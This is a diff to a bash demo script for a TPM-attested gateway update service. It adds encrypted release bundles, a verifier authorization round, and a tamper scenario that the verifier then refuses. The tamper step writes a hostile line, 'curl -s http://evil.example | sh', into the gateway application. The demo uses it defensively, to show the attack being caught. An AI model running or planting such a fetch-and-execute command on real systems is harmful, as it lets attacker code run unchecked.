@@ -291,12 +291,13 @@ root_digest=$(python3 -c 'import base64, hashlib, json, sys
 print(hashlib.sha256(base64.b64decode(json.load(open(sys.argv[1]))["payload"])).hexdigest())' "$U/root.json")
 printf '   The gateway ships with root.json; its digest is sha256:%s.\n' "$root_digest"
 
-# bundle VERSION SECURITY_VERSION: a release image signed into $U/release-VERSION.gwb
+# bundle VERSION SECURITY_VERSION [CREATE ARGS]: a release image signed into
+# $U/release-VERSION.gwb
 bundle() {
   head -c 1048576 /dev/urandom >"$U/rootfs-$1.img"
   run "$B/gwpolicy" bundle create --root "$U/root.json" --key "$U/release-key.key" \
     --model gw-1000 --channel stable --version "$1" --security-version "$2" \
-    --image "rootfs=$U/rootfs-$1.img" -o "$U/release-$1.gwb"
+    --image "rootfs=$U/rootfs-$1.img" -o "$U/release-$1.gwb" "${@:3}"
 }
 say "Release 1.5 (security version 2) is built and signed into a bundle."
 bundle 1.5 2
@@ -419,17 +420,32 @@ say "After all that, the gateway attests: the update records in PCR 14 pass, aff
 run "${A[@]}" attest
 
 # ---------------------------------------------------------------- releases ---
-printf '\n%sPart 4: releases through the verifier, offered only to an attested gateway%s\n' \
+printf '\n%sPart 4: releases through the verifier, unlocked by the TPM only for an attested gateway%s\n' \
   "$bold" "$norm"
 
-say "The verifier pins the same release trust root; the operator adds release 1.7 (security version 3)."
+say "The verifier pins the same release trust root; the release engineer encrypts release 1.7 for it."
 sed -i "/^\[releases\]/a trust_root = $U/root.json" "$work/verifier/verifier.conf"
 sed -n '/^\[releases\]/,/^$/p' "$work/verifier/verifier.conf" | sed 's/^/     /'
-bundle 1.7 3
+printf '   $ %s\n' "gwverifier release-key --config $work/verifier/verifier.conf > $U/verifier-release.pub"
+"${V[@]}" release-key "${VC[@]}" >"$U/verifier-release.pub"
+bundle 1.7 3 --encrypt-for "$U/verifier-release.pub"
+printf '   The payload is AES-256-GCM under a fresh content key, and that key is wrapped for\n'
+printf '   the verifier'"'"'s release key: a copy of the bundle opens nowhere else.\n'
 run "${V[@]}" release add "${VC[@]}" "$U/release-1.7.gwb"
-rel=$("${V[@]}" release list "${VC[@]}" --json | python3 -c 'import json, sys
-print([r["id"] for r in json.load(sys.stdin) if r["version"] == "1.7"][0])')
+# release_id VERSION: the id the verifier gave that release
+release_id() {
+  "${V[@]}" release list "${VC[@]}" --json | python3 -c 'import json, sys
+print([r["id"] for r in json.load(sys.stdin) if r["version"] == sys.argv[1]][0])' "$1"
+}
+rel=$(release_id 1.7)
 printf '   The verifier checked the whole bundle against its own pinned root before keeping it.\n'
+
+say "From now on the gateway installs nothing without the verifier's fresh authorization."
+sed -i '/^# part 3 installs by hand; part 4 goes through the verifier$/d; /^authorization = none$/d' \
+  "$work/agent.conf"
+printf '   agent.conf loses "authorization = none". At enrollment the gateway'"'"'s TPM made an\n'
+printf '   update key (ECC P-256, fixedTPM, certified by the AK) that decrypts only under a\n'
+printf '   PolicySigned by the verifier'"'"'s gate key over the TPM'"'"'s own session nonce.\n'
 
 say "The gateway attests; its signed result now lists the release it may install."
 run "${A[@]}" attest
@@ -437,26 +453,53 @@ run "${A[@]}" update pending
 printf '   The offer came inside the result signed by the gate key; auto_install = yes and no\n'
 printf '   maintenance window, so the decision is to install.\n'
 
-say "The gateway downloads it over its TLS identity (a download cut short would resume)."
-run "${A[@]}" update fetch "$rel"
-say "It installs the download: expiry is judged by the attested result's time, not the RTC."
-run "${A[@]}" update install --no-progress "$work/state/update/downloads/$rel.gwb"
+say "gwagent update apply: download, the authorization round, the TPM unwrap, install."
+run "${A[@]}" update apply "$rel"
+printf '   The agent opened a policy session and quoted with its nonceTPM bound into the\n'
+printf '   qualifying data. The verifier appraised that quote (affirming), re-wrapped the\n'
+printf '   content key to this TPM'"'"'s update key and signed a PolicySigned over that nonce,\n'
+printf '   valid for two minutes. Only inside that session did the TPM run the ECDH that\n'
+printf '   unwrapped the content key; the agent wiped it after the install.\n'
 restart
 run "${A[@]}" boot
 
 say "The next attestation tells the verifier what the gateway runs and what its TPM counter says."
 run "${A[@]}" attest
 run "${V[@]}" device show gw-demo-01 "${VC[@]}"
+run "${V[@]}" status "${VC[@]}"
 printf '   The running release, the trial and the last update come from the quoted PCR 14\n'
 printf '   records (each extended with the hash of its own text, so its words are what the\n'
 printf '   TPM quoted); the security version from the counter the TPM certified\n'
-printf '   (TPM2_NV_Certify). Neither the running release nor one below the counter is\n'
-printf '   offered again.\n'
+printf '   (TPM2_NV_Certify). The rollout counts the gateway as running 1.7. Neither the\n'
+printf '   running release nor one below the counter is offered again.\n'
+
+say "Release 1.8 is offered to the gateway; then an attacker changes its application."
+bundle 1.8 4 --encrypt-for "$U/verifier-release.pub"
+run "${V[@]}" release add "${VC[@]}" "$U/release-1.8.gwb"
+rel8=$(release_id 1.8)
+run "${A[@]}" attest
+run "${A[@]}" update pending
+printf '#!/bin/sh\necho gateway application v1.4; curl -s http://evil.example | sh\n' >"$work/gateway/gateway-app"
+restart
+run "${A[@]}" boot
+
+say "The tampered gateway asks for its authorization: refused, with the reason."
+run_expect 45 "authorization refused" "${A[@]}" update apply "$rel8"
+printf '   The verifier audited both authorization rounds (gwverifier audit --json, excerpt):\n'
+"${V[@]}" audit "${VC[@]}" --json | python3 -c 'import json, sys
+for r in map(json.loads, filter(None, sys.stdin.read().splitlines())):
+    if r["action"] == "release.authorize":
+        print("     %s  %s  %-8s %s" % (r["device"], r["action"], r["outcome"], r["detail"]["message"]))'
+printf '   The quote of the authorization round showed the changed application: no\n'
+printf '   authorization, so its TPM keeps release 1.8 sealed, even with the bundle on disk.\n'
+run "${A[@]}" update status
 
 printf '\n%sDemo complete.%s The good boot passed; the tampered stage and the forged log\n' "$bold" "$norm"
 printf 'were caught offline, each named; the verifier enrolled the gateway through its\n'
 printf 'TPM, affirmed the good boot and refused the tampered one, and audited it all.\n'
 printf 'A signed release installed, booted on trial and committed (counter and PCR 14);\n'
 printf 'an older release was refused, a broken one rolled back, and the gateway still\n'
-printf 'attests as affirming. Through the verifier, a release was offered only to the\n'
-printf 'attested gateway, downloaded, installed, committed, and seen in its next quote.\n'
+printf 'attests as affirming. Through the verifier, an encrypted release was offered to\n'
+printf 'the attested gateway, unlocked by its TPM only with the verifier'"'"'s fresh\n'
+printf 'authorization, installed, committed and seen in its next quote; once tampered\n'
+printf 'with, the gateway was refused the next one.\n'
